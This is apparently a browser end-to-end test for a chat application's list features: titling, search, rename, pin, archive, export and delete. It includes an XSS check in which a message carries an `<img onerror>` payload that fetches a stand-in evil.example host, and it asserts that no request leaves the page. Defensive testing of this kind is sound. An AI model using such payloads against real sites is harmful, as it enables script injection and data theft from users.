// The page's list of chats in a real headless Chromium: titles that come
// after the first answer, a search typed key by key with the matching words
// marked, rename (a title an attacker would write stays text), pin, archive
// and restore, the export downloaded, and delete behind a confirm.
//
// Needs AGENTWIRE_BIN (the built binary) and /usr/bin/chromium.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { freePort, startServer, tempDir } from '../js/test/support/helpers.mjs';
import { lastAgentText, launch, newChat, say, type } from './support.mjs';

let browser;
let server;
let port;

before(async () => {
  port = await freePort();
  server = await startServer(tempDir(), port);
  browser = await launch();
});

after(async () => {
  await browser?.close();
  server?.kill('SIGKILL');
});

const row = (page, title) => page.locator('#chats li', { has: page.locator('.title', { hasText: title }) });

test('chats are titled, searched, renamed, pinned, archived, exported and deleted from the list', async () => {
  const page = await newChat(browser, port, 'chat-list');
  const leaks = [];
  page.on('request', (r) => { if (!r.url().startsWith(`http://127.0.0.1:${port}/`) && !r.url().startsWith('blob:')) leaks.push(r.url()); });
  page.on('dialog', (d) => d.dismiss());
  await say(page, 'Plan a trip to Lyon in May');
  await lastAgentText(page, 'You said: Plan a trip to Lyon in May');
  // The title comes after the run, live: the list shows it.
  await row(page, 'Plan a trip to Lyon in').waitFor({ timeout: 20000 });
  assert.equal(await row(page, 'Plan a trip').getAttribute('class'), 'current');

  // A second chat whose words an attacker chose.
  await page.locator('.tile[data-agent="demo"]').click();
  await say(page, '<img src=x onerror="fetch(\'https://evil.example/\')"> pancakes');
  await lastAgentText(page, 'pancakes');
  await row(page, '<img src=x').waitFor({ timeout: 20000 });

  // Search, typed key by key: the matching words marked, the rest text.
  await type(page.locator('#chat-search'), 'lyo');
  await page.locator('#chats li mark', { hasText: 'Lyon' }).first().waitFor();
  assert.equal(await page.locator('#chats li').count(), 1);
  await type(page.locator('#chat-search'), 'pancake');
  await page.locator('#chats li mark', { hasText: 'pancakes' }).waitFor();
  assert.equal(await page.locator('#chats img').count(), 0, 'words are text');
  await type(page.locator('#chat-search'), 'zzzz');
  await page.locator('#chats li.note', { hasText: 'nothing found' }).waitFor();
  await page.locator('#chat-search').fill('');
  await page.locator('#chat-search').dispatchEvent('input');
  await page.locator('#chats li[data-id]').nth(1).waitFor();

  // Rename: a person types the new title into the prompt.
  page.removeAllListeners('dialog');
  page.once('dialog', (d) => d.accept('<b>Weekend</b> in Lyon'));
  const lyon = row(page, 'Plan a trip');
  await lyon.hover();
  await lyon.locator('button[data-act="rename"]').click();
  await row(page, '<b>Weekend</b> in Lyon').waitFor();
  assert.equal(await page.locator('#chats b').count(), 0);
  page.on('dialog', (d) => d.dismiss());

  // Pin: first in the list; archive: apart, until restored.
  const renamed = row(page, 'Weekend');
  await renamed.hover();
  await renamed.locator('button[data-act="pin"]').click();
  await page.locator('#chats li[data-id]').first().locator('.title', { hasText: '📌 <b>Weekend</b>' }).waitFor();
  await renamed.hover();
  await renamed.locator('button[data-act="archive"]').click();
  await renamed.waitFor({ state: 'detached' });
  await page.locator('#chat-archived').check();
  await row(page, 'Weekend').waitFor();
  await row(page, 'Weekend').hover();

  // Export: the conversation as Markdown, fetched with the page's
  // credentials and handed to the browser as a download.
  const [exported] = await Promise.all([
    page.waitForResponse((r) => r.url().includes('/export?format=markdown')),
    row(page, 'Weekend').locator('button[data-act="export"]').click(),
  ]);
  assert.equal(exported.status(), 200);
  assert.match(exported.headers()['content-disposition'], /^attachment; filename="chat-[0-9a-f-]+\.md"$/);
  // (What the browser saved: the same request again, from here.)
  const text = await (await fetch(exported.url())).text();
  assert.ok(text.startsWith('# <b>Weekend</b> in Lyon\n'), text);
  assert.ok(text.includes('Plan a trip to Lyon in May'));
  await row(page, 'Weekend').hover();
  await row(page, 'Weekend').locator('button[data-act="restore"]').click();
  await row(page, 'Weekend').waitFor({ state: 'detached' });
  await page.locator('#chat-archived').uncheck();
  await row(page, 'Weekend').waitFor();
  await page.shot('list');

  // Delete, behind a confirm: dismissed, nothing happens; accepted, the
  // chat is gone from the list and from search.
  await row(page, 'Weekend').hover();
  await row(page, 'Weekend').locator('button[data-act="delete"]').click();
  await page.waitForTimeout(300);
  assert.equal(await row(page, 'Weekend').count(), 1, 'a dismissed confirm deletes nothing');
  page.removeAllListeners('dialog');
  const asked = [];
  page.once('dialog', (d) => { asked.push(d.message()); d.accept(); });
  await row(page, 'Weekend').hover();
  await row(page, 'Weekend').locator('button[data-act="delete"]').click();
  await row(page, 'Weekend').waitFor({ state: 'detached' });
  assert.match(asked[0], /^Delete “<b>Weekend<\/b> in Lyon” for good\?/);
  await type(page.locator('#chat-search'), 'lyon');
  await page.locator('#chats li.note', { hasText: 'nothing found' }).waitFor();
  await page.locator('#chat-search').fill('');
  await page.locator('#chat-search').dispatchEvent('input');

  // The chat on screen, deleted: the page goes back to its start.
  const open = page.locator('#chats li.current');
  await open.waitFor();
  page.once('dialog', (d) => d.accept());
  await open.hover();
  await open.locator('button[data-act="delete"]').click();
  await page.locator('#chats li.note', { hasText: 'no chats yet' }).waitFor();
  await page.locator('#empty').waitFor();
  assert.equal(await page.locator('#log li').count(), 0);
  assert.equal(await page.locator('#composer').isHidden(), true);
  assert.deepEqual(leaks, [], 'nothing leaves the page');
  await page.close();
});
